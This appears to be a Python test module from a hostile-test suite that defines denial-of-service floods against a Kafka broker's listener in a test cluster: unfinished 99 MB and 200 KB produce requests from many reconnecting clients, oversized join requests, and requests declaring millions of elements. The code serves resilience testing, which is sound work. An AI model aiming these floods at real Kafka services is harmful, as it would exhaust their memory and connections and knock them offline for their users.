"""Attacks on Kafka's listener with many bytes: unfinished, too large, or with very many elements."""

from __future__ import annotations

import asyncio
import contextlib
import struct
from collections.abc import Iterator
from typing import Final

from tests.hostile.attacks import Attack, Send
from tests.testkit.brokers import Cluster

MB: Final = 1_000_000
PRODUCE, METADATA, OFFSET_COMMIT, JOIN_GROUP = 0, 3, 8, 11

_PAUSE: Final = 0.05
"""Seconds before a client connects again."""

_ZEROS: Final = bytes(MB)


def begin(key: int, version: int, fields: bytes = b"") -> bytes:
    """Returns the begin of a request without client id, without its length."""
    return struct.pack(">hhih", key, version, 1, -1) + fields


async def flood(address: str, head: bytes, size: int, missing: int = 0) -> None:
    """Sends one request of `size` bytes, `head` and zeros, without its `missing` last bytes.

    Ends when the server disconnects the client.
    """
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    try:
        writer.write(size.to_bytes(4) + head)
        remaining = size - len(head) - missing
        while remaining > 0:
            writer.write(_ZEROS[:remaining])
            remaining -= MB
            await writer.drain()
        await reader.read()
    finally:
        writer.transport.abort()


def flood_attack(name: str, clients: int, heads: list[bytes], size: int, missing: int = 0) -> Attack:
    """Returns an attack of clients that send requests, each on a connection, and connect again."""

    async def prepare(cluster: Cluster) -> Send:
        async def client(number: int) -> None:
            while True:
                with contextlib.suppress(OSError):
                    await flood(cluster.kafka, heads[number % len(heads)], size, missing)
                await asyncio.sleep(_PAUSE)

        async def send(seconds: float) -> None:
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(seconds):
                    await asyncio.gather(*map(client, range(clients)))

        return send

    return Attack(name, prepare)


def byte_attacks() -> Iterator[Attack]:
    """Yields the attacks."""
    produce = [begin(PRODUCE, 9)]
    yield flood_attack("40 unfinished requests of 99 MB", 40, produce, 99 * MB, 1)
    yield flood_attack("1,500 unfinished requests of 200 KB", 1500, produce, 200_000, 1)
    yield flood_attack("20 joins of 40 MB", 20, [begin(JOIN_GROUP, 3)], 40 * MB)
    size = 90 * MB
    count = struct.pack(">i", size // 2)
    elements = [
        begin(METADATA, 1, count),
        begin(PRODUCE, 3, struct.pack(">hhi", -1, -1, 1000) + count),
        begin(OFFSET_COMMIT, 2, struct.pack(">hihq", 0, 1, 0, 0) + count),
    ]
    yield flood_attack("6 requests of 90 MB with millions of elements", 6, elements, size)
